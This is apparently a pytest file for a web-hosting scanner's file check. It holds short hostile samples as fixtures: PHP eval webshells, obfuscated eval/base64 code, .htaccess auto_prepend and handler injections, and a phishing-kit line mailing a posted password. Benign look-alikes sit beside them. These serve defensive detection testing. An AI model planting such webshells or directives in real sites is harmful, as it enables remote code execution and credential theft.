"""The file check: each shipped rule on an inert synthetic sample, benign look-alikes that must
not match, unreadable files (incomplete, never clean), names that are not UTF-8."""

from __future__ import annotations

import base64
import os
from pathlib import Path
from typing import Any

import pytest

from csm.drill.build import DrillHost
from csm.drill.incidents import WEBSHELL

SAMPLES = {
    "webshell": b'<?php @eval($_POST["cmd"]); ?>',
    "webshell ": b'<?php $_GET["f"]($_POST["c"]);',
    "obfuscated_php": b'<?php eval(gzinflate(base64_decode("c3Ry")));',
    "obfuscated_php ": b'<?php $f = "ba"."se64_de"."code"; echo 1;',
    "htaccess_injection": b"php_value auto_prepend_file /tmp/.x.php\n",
    "htaccess_injection ": b"AddHandler application/x-httpd-php .jpg .png\n",
    "phishing_kit": b'<?php $p = $_POST["password"]; mail("x@example.net", "PayPal", $p);',
}
BENIGN = [
    b'<?php $opts = json_decode(base64_decode(get_option("plugin_opts")), true);',
    b"<?php // evaluate the order total\n$total = evaluate($cart);",
    b"RewriteEngine On\nRewriteRule ^index\\.php$ - [L]\n",
    b'<?php if (isset($_POST["password"])) { wp_signon(); }',
    b"GIF89a binary \x00\x01\x02 data eval( not php",
]


def home(drill: DrillHost, index: int = 2) -> Path:
    return drill.root / "home" / drill.accounts[index].user


def scan(cli: Any, drill: DrillHost, index: int = 2) -> dict[str, Any]:
    result = cli("scan", drill.accounts[index].user, "--checks", "files", "--json")
    assert result.code in (0, 1), result.err
    return result.json()  # type: ignore[no-any-return]


@pytest.mark.parametrize("check", sorted(SAMPLES))
def test_each_rule_finds_its_sample(cli: Any, drill: DrillHost, check: str) -> None:
    target = home(drill) / "public_html" / ("x.htaccess" if "htaccess" in check else "x.php")
    target.write_bytes(SAMPLES[check])
    found = scan(cli, drill)
    assert [f["check"] for f in found["findings"]] == [check.strip()]
    assert found["complete"] and not found["clean"]


def test_benign_look_alikes_do_not_match(cli: Any, drill: DrillHost) -> None:
    for number, text in enumerate(BENIGN):
        (home(drill) / "public_html" / f"benign{number}.php").write_bytes(text)
    found = scan(cli, drill)
    assert found["findings"] == [] and found["clean"] and found["files"] > len(BENIGN)


def test_the_drill_webshell_and_trigger_account_is_not_clean(cli: Any, drill: DrillHost) -> None:
    found = scan(cli, drill, 1)
    paths = {f["path"] for f in found["findings"]}
    assert f"/home/{drill.accounts[1].user}/{WEBSHELL}" in paths
    assert {f["check"] for f in found["findings"]} == {"webshell", "php_in_uploads"}


def test_private_directories_and_symlinks_are_not_followed(cli: Any, drill: DrillHost) -> None:
    (home(drill) / "mail" / "evil.php").write_bytes(SAMPLES["webshell"])
    outside = drill.root / "outside.php"
    outside.write_bytes(SAMPLES["webshell"])
    (home(drill) / "public_html" / "link.php").symlink_to(outside)
    assert scan(cli, drill)["clean"]


def test_a_file_not_examined_makes_the_scan_incomplete(cli: Any, drill: DrillHost) -> None:
    """(Tests run as root, who can read every file: a file too large to read stands in.)"""
    big = home(drill) / "public_html" / "big.php"
    big.write_bytes(b"x" * ((16 << 20) + 10))
    found = scan(cli, drill)
    assert not found["complete"] and not found["clean"]
    assert any("big.php" in e for e in found["errors"])


def test_a_name_that_is_not_utf8_is_reported_with_path_b64(cli: Any, drill: DrillHost) -> None:
    name = b"shell-\xff\xfe.php"
    directory = os.fsencode(home(drill) / "public_html")
    with open(os.path.join(directory, name), "wb") as stream:
        stream.write(SAMPLES["webshell"])
    (finding,) = scan(cli, drill)["findings"]
    raw = base64.b64decode(finding["details"]["path_b64"])
    assert raw.endswith(b"/public_html/" + name)
